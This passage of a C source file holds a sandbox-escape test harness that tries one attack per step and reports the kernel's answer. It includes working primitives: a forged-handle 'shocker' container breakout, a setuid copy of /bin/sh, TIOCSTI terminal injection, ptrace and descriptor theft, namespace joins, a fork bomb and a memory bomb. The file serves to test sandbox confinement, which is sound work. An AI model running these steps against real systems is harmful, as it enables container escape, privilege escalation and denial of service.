/*
 * attack: try to break out of a sandbox, one attack per step, and print
 * what the kernel answered.
 *
 *   attack VERB [ARG...] [';' VERB [ARG...]]...
 *
 * Each step prints one line, "LABEL RESULT", where LABEL is the verb with
 * its arguments (verb(arg1,arg2)) and RESULT is OK (the attack got through),
 * an errno name (EPERM, EXDEV, ...), or a verb-specific word (EMPTY for a
 * read of zero bytes). The exit status is 66 when at least one step got
 * through, 0 when every step was refused, 2 on a usage error: the sentinel
 * lets a test tell "escaped" from "refused" without parsing, and the same
 * binary run on the host (the control) must exit 66. A verb written with a
 * leading '+' (+symlink) prepares a later step: it prints its result the
 * same way, but its success is not an escape.
 *
 * Every step uses the raw system call (syscall(2) where libc would add
 * logic of its own), so that what is printed is the kernel's answer. Built
 * with gcc -static so that it runs in a sandbox whatever libc it shows.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif
#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef CLONE_NEWCGROUP
#define CLONE_NEWCGROUP 0x02000000
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif

#define ESCAPED 66

/* Results of a step besides an errno (positive). */
enum { RES_OK = 0, RES_INFO = -1, RES_EMPTY = -2, RES_USAGE = -3, RES_DONE = -4 };

static int escaped; /* set by a step that got through */
static char extra[512]; /* printed after RESULT when set */

static const char *errname(int e)
{
	static char buf[16];
	const char *n = strerrorname_np(e);
	if (n != NULL)
		return n;
	snprintf(buf, sizeof buf, "E%d", e);
	return buf;
}

/* ret turns a raw syscall's return value into a step result. */
static int ret(long r) { return r < 0 ? errno : RES_OK; }

/* --- files ------------------------------------------------------------ */

/* read PATH: OK when it yields bytes, EMPTY when it yields none. */
static int v_read(char **a)
{
	char buf[4096];
	int fd = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	ssize_t n = read(fd, buf, sizeof buf);
	int e = errno;
	close(fd);
	if (n < 0)
		return e;
	if (n == 0)
		return RES_EMPTY;
	snprintf(extra, sizeof extra, "%zd", n);
	return RES_OK;
}

static int open_mode(const char *path, int flags)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, flags | O_CLOEXEC, 0644);
	if (fd < 0)
		return errno;
	close(fd);
	return RES_OK;
}

/* openw PATH: open for writing and close without writing. */
static int v_openw(char **a) { return open_mode(a[0], O_WRONLY); }
/* openrw PATH: open for reading and writing (/proc/PID/mem). */
static int v_openrw(char **a) { return open_mode(a[0], O_RDWR); }
/* create PATH: a new file. */
static int v_create(char **a) { return open_mode(a[0], O_WRONLY | O_CREAT | O_EXCL); }

/* write PATH: overwrite an existing file with "attack\n". */
static int v_write(char **a)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (fd < 0)
		return errno;
	ssize_t n = write(fd, "attack\n", 7);
	int e = errno;
	close(fd);
	return n == 7 ? RES_OK : e;
}

/* setid-chmod PATH MODE: a copy of /bin/sh at PATH (made 0755), then
 * fchmodat to MODE (octal, 4755: a setuid shell the host would keep). OK
 * when the call succeeded; the file's mode follows. */
static int v_setid_chmod(char **a)
{
	char buf[65536];
	int in = (int)syscall(SYS_openat, AT_FDCWD, "/bin/sh", O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return errno;
	int out = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (out < 0) {
		int e = errno;
		close(in);
		return e;
	}
	ssize_t n;
	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	close(in);
	close(out);
	long r = syscall(SYS_fchmodat, AT_FDCWD, a[0], strtoul(a[1], NULL, 8), 0);
	if (r < 0)
		return errno;
	struct stat st;
	if (stat(a[0], &st) == 0)
		snprintf(extra, sizeof extra, "mode %o", st.st_mode & 07777);
	return RES_OK;
}

/* setid-create PATH MODE: a new file made by openat(O_CREAT) with MODE. */
static int v_setid_create(char **a)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, strtoul(a[1], NULL, 8));
	if (fd < 0)
		return errno;
	close(fd);
	struct stat st;
	if (stat(a[0], &st) == 0)
		snprintf(extra, sizeof extra, "mode %o", st.st_mode & 07777);
	return RES_OK;
}

static int v_link(char **a) { return ret(syscall(SYS_linkat, AT_FDCWD, a[0], AT_FDCWD, a[1], 0)); }
static int v_rename(char **a) { return ret(syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], 0)); }
static int v_exchange(char **a) { return ret(syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE)); }
static int v_symlink(char **a) { return ret(syscall(SYS_symlinkat, a[0], AT_FDCWD, a[1])); }
static int v_unlink(char **a) { return ret(syscall(SYS_unlinkat, AT_FDCWD, a[0], 0)); }
static int v_rmdir(char **a) { return ret(syscall(SYS_unlinkat, AT_FDCWD, a[0], AT_REMOVEDIR)); }
static int v_mkdir(char **a) { return ret(syscall(SYS_mkdirat, AT_FDCWD, a[0], 0755)); }

/* readlink PATH: OK (with the target) when the link can be read. */
static int v_readlink(char **a)
{
	char buf[256];
	long n = syscall(SYS_readlinkat, AT_FDCWD, a[0], buf, sizeof buf - 1);
	if (n < 0)
		return errno;
	buf[n] = 0;
	snprintf(extra, sizeof extra, "%s", buf);
	return RES_OK;
}

/* stat PATH: what the path is (information, never an escape). */
static int v_stat(char **a)
{
	struct stat st;
	if (fstatat(AT_FDCWD, a[0], &st, 0) < 0)
		return errno;
	if (S_ISCHR(st.st_mode))
		snprintf(extra, sizeof extra, "chr %u:%u", major(st.st_rdev), minor(st.st_rdev));
	else if (S_ISDIR(st.st_mode))
		snprintf(extra, sizeof extra, "dir");
	else
		snprintf(extra, sizeof extra, "mode %o size %lld", st.st_mode, (long long)st.st_size);
	return RES_INFO;
}

/* ls DIR: OK when the directory lists any entry besides . and .. */
static int v_ls(char **a)
{
	DIR *d = opendir(a[0]);
	if (d == NULL)
		return errno;
	struct dirent *e;
	int n = 0;
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			n++;
	closedir(d);
	return n ? RES_OK : RES_EMPTY;
}

/* fds: OK (with the list) when any descriptor besides 0, 1, 2 is open. */
static int v_fds(char **a)
{
	(void)a;
	size_t off = 0;
	for (int fd = 3; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) >= 0 && off < sizeof extra - 8)
			off += (size_t)snprintf(extra + off, sizeof extra - off, "%s%d", off ? "," : "", fd);
	}
	return off ? RES_OK : EBADF;
}

/* open-by-handle PATH: name_to_handle_at, then open_by_handle_at. */
static int v_open_by_handle(char **a)
{
	char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *h = (struct file_handle *)buf;
	int mnt;
	h->handle_bytes = MAX_HANDLE_SZ;
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, a[0], h, &mnt, 0) < 0)
		return errno;
	int dir = (int)syscall(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = (int)syscall(SYS_open_by_handle_at, dir, h, O_RDONLY);
	int e = errno;
	close(dir);
	if (fd < 0)
		return e;
	close(fd);
	return RES_OK;
}

/* shocker DIR: open_by_handle_at with a forged ext4 handle of inode 2 (the
 * root of DIR's file system), as in the 2014 Docker breakout. */
static int v_shocker(char **a)
{
	char buf[sizeof(struct file_handle) + 8];
	struct file_handle *h = (struct file_handle *)buf;
	uint32_t ino_gen[2] = {2, 0};
	h->handle_bytes = 8;
	h->handle_type = 1; /* FILEID_INO32_GEN */
	memcpy(h->f_handle, ino_gen, 8);
	int dir = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0)
		return errno;
	int fd = (int)syscall(SYS_open_by_handle_at, dir, h, O_RDONLY | O_DIRECTORY);
	int e = errno;
	close(dir);
	if (fd < 0)
		return e;
	close(fd);
	return RES_OK;
}

/* --- kernel interfaces ------------------------------------------------ */

/* io_uring: set up a ring (operations on it are never seen by seccomp). */
static int v_io_uring(char **a)
{
	(void)a;
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (fd < 0)
		return errno;
	close(fd);
	return RES_OK;
}

static int v_unshare(char **a)
{
	static const struct { const char *n; unsigned long f; } ns[] = {
		{"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"net", CLONE_NEWNET},
		{"pid", CLONE_NEWPID}, {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS},
		{"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME},
	};
	for (size_t i = 0; i < sizeof ns / sizeof ns[0]; i++) {
		if (strcmp(a[0], ns[i].n) != 0)
			continue;
		/* In a child: a namespace that was created dies with it. */
		pid_t pid = fork();
		if (pid < 0)
			return errno;
		if (pid == 0)
			_exit(syscall(SYS_unshare, ns[i].f) < 0 ? errno : 0);
		int st;
		waitpid(pid, &st, 0);
		return WIFEXITED(st) ? WEXITSTATUS(st) : EINTR;
	}
	return RES_USAGE;
}

/* clone-user: a child in a new user namespace through clone(2). */
static int v_clone_user(char **a)
{
	(void)a;
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (pid < 0)
		return errno;
	if (pid == 0)
		_exit(0);
	waitpid((pid_t)pid, NULL, 0);
	return RES_OK;
}

/* mount FSTYPE DIR: mount a new FSTYPE (tmpfs, cgroup2, proc) at DIR. */
static int v_mount(char **a)
{
	long r = syscall(SYS_mount, "none", a[1], a[0], 0, NULL);
	if (r < 0)
		return errno;
	syscall(SYS_umount2, a[1], MNT_DETACH);
	return RES_OK;
}

/* bind SRC DST: bind-mount SRC at DST. */
static int v_bind(char **a)
{
	long r = syscall(SYS_mount, a[0], a[1], NULL, MS_BIND, NULL);
	if (r < 0)
		return errno;
	syscall(SYS_umount2, a[1], MNT_DETACH);
	return RES_OK;
}

/* fsopen FSTYPE: the new mount API. */
static int v_fsopen(char **a)
{
	int fd = (int)syscall(SYS_fsopen, a[0], 0);
	if (fd < 0)
		return errno;
	close(fd);
	return RES_OK;
}

/* open-tree PATH: clone a mount tree (OPEN_TREE_CLONE). */
static int v_open_tree(char **a)
{
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, a[0], 1 /* OPEN_TREE_CLONE */);
	if (fd < 0)
		return errno;
	close(fd);
	return RES_OK;
}

static int v_chroot(char **a) { return ret(syscall(SYS_chroot, a[0])); }

/* setns PATH: join the namespace file PATH (/proc/1/ns/...). */
static int v_setns(char **a)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	long r = syscall(SYS_setns, fd, 0);
	int e = errno;
	close(fd);
	return r < 0 ? e : RES_OK;
}

/* shm KEY: attach the System V shared memory segment KEY. */
static int v_shm(char **a)
{
	int id = (int)syscall(SYS_shmget, (key_t)strtol(a[0], NULL, 0), 0, 0);
	if (id < 0)
		return errno;
	void *p = (void *)syscall(SYS_shmat, id, NULL, SHM_RDONLY);
	if (p == (void *)-1)
		return errno;
	syscall(SYS_shmdt, p);
	return RES_OK;
}

/* --- terminals -------------------------------------------------------- */

/* tiocsti FD [HIGH]: push a byte into the input of the terminal FD; with
 * HIGH, the request number has bits 32-63 set (the kernel drops them). */
static int v_tiocsti(char **a)
{
	unsigned long req = TIOCSTI;
	if (a[1] != NULL && strcmp(a[1], "high") == 0)
		req |= 0x100000000UL;
	char c = '#';
	return ret(syscall(SYS_ioctl, atoi(a[0]), req, &c));
}

/* tioclinux FD: TIOCLINUX subcode 6 (read the shift state). */
static int v_tioclinux(char **a)
{
	unsigned long req = TIOCLINUX;
	if (a[1] != NULL && strcmp(a[1], "high") == 0)
		req |= 0x100000000UL;
	char sub = 6;
	return ret(syscall(SYS_ioctl, atoi(a[0]), req, &sub));
}

/* isatty FD: information. */
static int v_isatty(char **a)
{
	struct termios t;
	if (ioctl(atoi(a[0]), TCGETS, &t) < 0)
		return errno;
	snprintf(extra, sizeof extra, "tty");
	return RES_INFO;
}

/* --- processes -------------------------------------------------------- */

/* ptrace PID: attach (and detach again). */
static int v_ptrace(char **a)
{
	pid_t pid = atoi(a[0]);
	if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) < 0)
		return errno;
	syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
	return RES_OK;
}

/* pidfd-getfd PID FD: copy descriptor FD out of process PID (needs the
 * same right as ptrace attach). */
static int v_pidfd_getfd(char **a)
{
	int pfd = (int)syscall(SYS_pidfd_open, atoi(a[0]), 0);
	if (pfd < 0)
		return errno;
	int fd = (int)syscall(SYS_pidfd_getfd, pfd, atoi(a[1]), 0);
	int e = errno;
	close(pfd);
	if (fd < 0)
		return e;
	close(fd);
	return RES_OK;
}

static int signum(const char *s)
{
	if (strcmp(s, "KILL") == 0)
		return SIGKILL;
	if (strcmp(s, "TERM") == 0)
		return SIGTERM;
	if (strcmp(s, "STOP") == 0)
		return SIGSTOP;
	if (strcmp(s, "0") == 0)
		return 0;
	return -1;
}

/* kill PID SIG: send SIG (KILL, TERM, STOP, 0). OK only says the kernel
 * took the call: a test judges by what happened to PID. */
static int v_kill(char **a)
{
	int sig = signum(a[1]);
	if (sig < 0)
		return RES_USAGE;
	if (syscall(SYS_kill, atoi(a[0]), sig) < 0)
		return errno;
	return RES_INFO;
}

/* killall SIG: SIG to every process in /proc but this one, then to -1. */
static int v_killall(char **a)
{
	int sig = signum(a[0]);
	if (sig < 0)
		return RES_USAGE;
	DIR *d = opendir("/proc");
	if (d == NULL)
		return errno;
	struct dirent *e;
	size_t off = 0;
	while ((e = readdir(d)) != NULL) {
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		long r = syscall(SYS_kill, pid, sig);
		if (off < sizeof extra - 32)
			off += (size_t)snprintf(extra + off, sizeof extra - off, "%s%d:%s", off ? "," : "", pid,
						r < 0 ? errname(errno) : "sent");
	}
	closedir(d);
	return RES_INFO;
}

/* pids: the processes /proc lists (information). */
static int v_pids(char **a)
{
	(void)a;
	DIR *d = opendir("/proc");
	if (d == NULL)
		return errno;
	struct dirent *e;
	size_t off = 0;
	while ((e = readdir(d)) != NULL) {
		if (atoi(e->d_name) > 0 && off < sizeof extra - 16)
			off += (size_t)snprintf(extra + off, sizeof extra - off, "%s%s", off ? "," : "", e->d_name);
	}
	closedir(d);
	return RES_INFO;
}

/* daemon MARKER SECONDS NAME: double fork and setsid; the grandchild, named
 * NAME, closes every descriptor, sleeps SECONDS, then creates MARKER. The
 * step returns at once with the grandchild's pid (information). */
static int v_daemon(char **a)
{
	int fds[2];
	if (pipe(fds) < 0)
		return errno;
	pid_t pid = fork();
	if (pid < 0)
		return errno;
	if (pid == 0) {
		close(fds[0]);
		setsid();
		if (fork() != 0)
			_exit(0);
		/* The grandchild reports once it has its name, so that the
		 * caller can look for it by that name. */
		prctl(PR_SET_NAME, a[2]);
		pid_t g = getpid();
		if (write(fds[1], &g, sizeof g) < 0)
			_exit(1);
		signal(SIGHUP, SIG_IGN);
		signal(SIGTERM, SIG_IGN);
		for (int fd = 0; fd < 1024; fd++)
			close(fd);
		struct timespec ts = {atoi(a[1]), 0};
		while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
			;
		int m = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_WRONLY | O_CREAT, 0644);
		if (m >= 0)
			close(m);
		_exit(0);
	}
	close(fds[1]);
	pid_t g = 0;
	if (read(fds[0], &g, sizeof g) != sizeof g)
		return EIO;
	close(fds[0]);
	waitpid(pid, NULL, 0);
	snprintf(extra, sizeof extra, "%d", g);
	return RES_INFO;
}

/* hold PATH SECONDS NAME: open PATH for writing, print HOLDING, and keep
 * it open for SECONDS as a process named NAME. */
static int v_hold(char **a)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, a[0], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	prctl(PR_SET_NAME, a[2]);
	printf("HOLDING\n");
	fflush(stdout);
	struct timespec ts = {atoi(a[1]), 0};
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
	close(fd);
	return RES_DONE;
}

/* bomb is one process of the fork bomb: like :(){ :|:& }, it makes two
 * more (retrying while fork fails), then exits, so the sandbox fills up
 * with processes that keep dying and being replaced; the orphans land on
 * PID 1. */
static void bomb(void)
{
	for (int made = 0; made < 2;) {
		pid_t pid = fork();
		if (pid == 0) {
			made = 0;
			continue;
		}
		if (pid > 0)
			made++;
		else
			usleep(1000);
	}
	_exit(0);
}

/* forkbomb SECONDS: start a fork bomb and, for SECONDS, fork on as well;
 * report the errno fork failed with and the most processes /proc listed.
 * OK (escaped) when fork never failed. */
static int v_forkbomb(char **a)
{
	if (fork() == 0)
		bomb();
	struct timespec t0, now;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	int err = 0, most = 0;
	do {
		pid_t pid = fork();
		if (pid == 0)
			bomb();
		if (pid < 0 && err == 0)
			err = errno;
		DIR *d = opendir("/proc");
		int n = 0;
		struct dirent *de;
		while (d != NULL && (de = readdir(d)) != NULL)
			n += atoi(de->d_name) > 0;
		if (d != NULL)
			closedir(d);
		most = n > most ? n : most;
		/* Keep PID 1 busy too: it forwards the (harmless) SIGWINCH to
		 * the program's group. */
		kill(1, SIGWINCH);
		usleep(10000);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - t0.tv_sec < atoi(a[0]));
	snprintf(extra, sizeof extra, "procs %d", most);
	return err == 0 ? RES_OK : err;
}

/* membomb MIB: allocate and touch MIB MiB, one MiB at a time. */
static int v_membomb(char **a)
{
	int mib = atoi(a[0]);
	for (int i = 0; i < mib; i++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return errno;
		memset(p, 0x5a, 1 << 20);
	}
	snprintf(extra, sizeof extra, "%d MiB", mib);
	return RES_OK;
}

/* argv: how many arguments and bytes this process got (information). */
static int g_argc;
static char **g_argv;
static int v_argv(char **a)
{
	(void)a;
	size_t n = 0;
	for (int i = 0; i < g_argc; i++)
		n += strlen(g_argv[i]) + 1;
	snprintf(extra, sizeof extra, "%d args %zu bytes", g_argc, n);
	return RES_INFO;
}

/* --- sockets ---------------------------------------------------------- */

/* unix_addr fills sa from PATH, or from @NAME for an abstract socket. */
static socklen_t unix_addr(struct sockaddr_un *sa, const char *name)
{
	memset(sa, 0, sizeof *sa);
	sa->sun_family = AF_UNIX;
	size_t n = strlen(name);
	if (n >= sizeof sa->sun_path)
		n = sizeof sa->sun_path - 1;
	memcpy(sa->sun_path, name, n);
	if (name[0] == '@')
		sa->sun_path[0] = 0;
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (name[0] == '@' ? 0 : 1));
}

/* connect-unix ADDR: connect a stream socket to a unix socket (a path or
 * @abstract). OK when connected. */
static int v_connect_unix(char **a)
{
	struct sockaddr_un sa;
	socklen_t len = unix_addr(&sa, a[0]);
	int s = (int)syscall(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return errno;
	long r = syscall(SYS_connect, s, &sa, len);
	int e = errno;
	close(s);
	return r < 0 ? e : RES_OK;
}

/* scm ADDR: connect to ADDR, receive a descriptor by SCM_RIGHTS and read
 * it. OK when bytes came through the received descriptor. */
static int v_scm(char **a)
{
	struct sockaddr_un sa;
	socklen_t len = unix_addr(&sa, a[0]);
	int s = (int)syscall(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return errno;
	if (syscall(SYS_connect, s, &sa, len) < 0) {
		int e = errno;
		close(s);
		return e;
	}
	char data[16], ctl[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {data, sizeof data};
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
	long n = syscall(SYS_recvmsg, s, &m, MSG_CMSG_CLOEXEC);
	int e = errno;
	close(s);
	if (n < 0)
		return e;
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	if (c == NULL || c->cmsg_type != SCM_RIGHTS)
		return ENOMSG;
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof fd);
	char buf[256];
	n = read(fd, buf, sizeof buf);
	close(fd);
	if (n <= 0)
		return RES_EMPTY;
	snprintf(extra, sizeof extra, "%ld", n);
	return RES_OK;
}

static const struct { const char *n; int v; } families[] = {
	{"unix", AF_UNIX}, {"inet", AF_INET}, {"ax25", AF_AX25}, {"ipx", AF_IPX},
	{"appletalk", AF_APPLETALK}, {"netrom", AF_NETROM}, {"bridge", AF_BRIDGE},
	{"atmpvc", AF_ATMPVC}, {"x25", AF_X25}, {"inet6", AF_INET6}, {"rose", AF_ROSE},
	{"decnet", AF_DECnet}, {"netbeui", AF_NETBEUI}, {"security", AF_SECURITY},
	{"key", AF_KEY}, {"netlink", AF_NETLINK}, {"packet", AF_PACKET}, {"ash", AF_ASH},
	{"econet", AF_ECONET}, {"atmsvc", AF_ATMSVC}, {"rds", AF_RDS}, {"sna", AF_SNA},
	{"irda", AF_IRDA}, {"pppox", AF_PPPOX}, {"wanpipe", AF_WANPIPE}, {"llc", AF_LLC},
	{"ib", AF_IB}, {"mpls", AF_MPLS}, {"can", AF_CAN}, {"tipc", AF_TIPC},
	{"bluetooth", AF_BLUETOOTH}, {"iucv", AF_IUCV}, {"rxrpc", AF_RXRPC},
	{"isdn", AF_ISDN}, {"phonet", AF_PHONET}, {"ieee802154", AF_IEEE802154},
	{"caif", AF_CAIF}, {"alg", AF_ALG}, {"nfc", AF_NFC}, {"vsock", AF_VSOCK},
	{"kcm", AF_KCM}, {"qipcrtr", AF_QIPCRTR}, {"smc", AF_SMC}, {"xdp", AF_XDP},
	{"mctp", AF_MCTP},
};

/* family NAME: socket(NAME, T, 0) for T in stream, dgram, raw, seqpacket,
 * with the family passed as a full 64-bit register. OK when any type gives
 * a socket; else EPERM when any attempt was refused with EPERM (a policy:
 * the others may fail for the type alone, as SOCK_RAW with protocol 0 of
 * AF_INET); else the errno of the attempts when they all agree, or EINVAL
 * and the errnos one by one. NAME may also be a number (46, 0x100000002). */
static int v_family(char **a)
{
	long fam = -1;
	for (size_t i = 0; i < sizeof families / sizeof families[0]; i++)
		if (strcmp(a[0], families[i].n) == 0)
			fam = families[i].v;
	if (fam < 0)
		fam = strtol(a[0], NULL, 0);
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
	int errs[4], same = 1;
	for (int i = 0; i < 4; i++) {
		int s = (int)syscall(SYS_socket, fam, types[i] | SOCK_CLOEXEC, 0);
		if (s >= 0) {
			close(s);
			return RES_OK;
		}
		errs[i] = errno;
		same = same && errs[i] == errs[0];
	}
	for (int i = 0; i < 4; i++)
		if (errs[i] == EPERM)
			return EPERM;
	if (same)
		return errs[0];
	snprintf(extra, sizeof extra, "%s/%s/%s/%s", errname(errs[0]), errname(errs[1]), errname(errs[2]), errname(errs[3]));
	return EINVAL;
}

/* socketcall NAME: socket(NAME, SOCK_STREAM or SOCK_DGRAM, 0) through the
 * i386 socketcall(2) multiplexer, whose arguments sit behind a pointer
 * (ENOSYS where the ABI has no socketcall). */
static int v_socketcall(char **a)
{
#ifdef SYS_socketcall
	long fam = -1;
	for (size_t i = 0; i < sizeof families / sizeof families[0]; i++)
		if (strcmp(a[0], families[i].n) == 0)
			fam = families[i].v;
	if (fam < 0)
		fam = strtol(a[0], NULL, 0);
	int err = 0;
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM};
	for (int i = 0; i < 2; i++) {
		unsigned long args[3] = {(unsigned long)fam, (unsigned long)types[i], 0};
		int s = (int)syscall(SYS_socketcall, 1 /* SYS_SOCKET */, args);
		if (s >= 0) {
			close(s);
			return RES_OK;
		}
		err = err == EPERM ? err : errno;
	}
	return err;
#else
	(void)a;
	return ENOSYS;
#endif
}

static int inet_addr_of(const char *host, const char *port, struct sockaddr_storage *ss, int *fam)
{
	memset(ss, 0, sizeof *ss);
	struct sockaddr_in *in = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;
	if (inet_pton(AF_INET, host, &in->sin_addr) == 1) {
		in->sin_family = AF_INET;
		in->sin_port = htons((uint16_t)atoi(port));
		*fam = AF_INET;
		return (int)sizeof *in;
	}
	if (inet_pton(AF_INET6, host, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((uint16_t)atoi(port));
		*fam = AF_INET6;
		return (int)sizeof *in6;
	}
	return -1;
}

/* inet KIND HOST PORT: KIND is tcp (connect), udp (sendto), tfo (sendto
 * with MSG_FASTOPEN), mptcp (connect an IPPROTO_MPTCP socket), raw (an
 * ICMP raw socket, sendto), ping (an ICMP datagram socket, sendto). OK
 * when the packet or connection went out. */
static int v_inet(char **a)
{
	struct sockaddr_storage ss;
	int fam;
	int len = inet_addr_of(a[1], a[2], &ss, &fam);
	if (len < 0)
		return RES_USAGE;
	int type = SOCK_STREAM, proto = 0, flags = 0;
	const char *k = a[0];
	if (strcmp(k, "udp") == 0) {
		type = SOCK_DGRAM;
	} else if (strcmp(k, "tfo") == 0) {
		flags = MSG_FASTOPEN;
	} else if (strcmp(k, "mptcp") == 0) {
		proto = IPPROTO_MPTCP;
	} else if (strcmp(k, "raw") == 0) {
		type = SOCK_RAW;
		proto = fam == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6;
	} else if (strcmp(k, "ping") == 0) {
		type = SOCK_DGRAM;
		proto = fam == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6;
	} else if (strcmp(k, "tcp") != 0) {
		return RES_USAGE;
	}
	int s = (int)syscall(SYS_socket, fam, type | SOCK_CLOEXEC, proto);
	if (s < 0)
		return errno;
	long r;
	if (type == SOCK_STREAM && flags == 0) {
		r = syscall(SYS_connect, s, &ss, len);
	} else {
		/* An ICMP echo request for raw and ping; payload otherwise. */
		unsigned char msg[8] = {fam == AF_INET ? 8 : 128, 0, 0, 0, 0, 1, 0, 1};
		if (fam == AF_INET && type == SOCK_RAW) {
			unsigned sum = 0;
			for (int i = 0; i < 8; i += 2)
				sum += (unsigned)(msg[i] << 8 | msg[i + 1]);
			sum = (sum >> 16) + (sum & 0xffff);
			sum = ~sum & 0xffff;
			msg[2] = (unsigned char)(sum >> 8);
			msg[3] = (unsigned char)sum;
		}
		r = syscall(SYS_sendto, s, msg, sizeof msg, flags, &ss, len);
	}
	int e = errno;
	close(s);
	return r < 0 ? e : RES_OK;
}

/* bind-inet HOST PORT: bind a TCP socket (a listener for the outside). */
static int v_bind_inet(char **a)
{
	struct sockaddr_storage ss;
	int fam;
	int len = inet_addr_of(a[0], a[1], &ss, &fam);
	if (len < 0)
		return RES_USAGE;
	int s = (int)syscall(SYS_socket, fam, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return errno;
	long r = syscall(SYS_bind, s, &ss, len);
	int e = errno;
	close(s);
	return r < 0 ? e : RES_OK;
}

/* --- driver ----------------------------------------------------------- */

static const struct verb {
	const char *name;
	int nargs; /* -1: one or two, -2: any (not printed) */
	int (*fn)(char **);
} verbs[] = {
	{"read", 1, v_read}, {"openw", 1, v_openw}, {"openrw", 1, v_openrw},
	{"create", 1, v_create}, {"write", 1, v_write}, {"link", 2, v_link},
	{"setid-chmod", 2, v_setid_chmod}, {"setid-create", 2, v_setid_create},
	{"rename", 2, v_rename}, {"exchange", 2, v_exchange}, {"symlink", 2, v_symlink},
	{"unlink", 1, v_unlink}, {"rmdir", 1, v_rmdir}, {"mkdir", 1, v_mkdir},
	{"readlink", 1, v_readlink}, {"stat", 1, v_stat}, {"ls", 1, v_ls}, {"fds", 0, v_fds},
	{"open-by-handle", 1, v_open_by_handle}, {"shocker", 1, v_shocker},
	{"io_uring", 0, v_io_uring}, {"unshare", 1, v_unshare}, {"clone-user", 0, v_clone_user},
	{"mount", 2, v_mount}, {"bind", 2, v_bind}, {"fsopen", 1, v_fsopen},
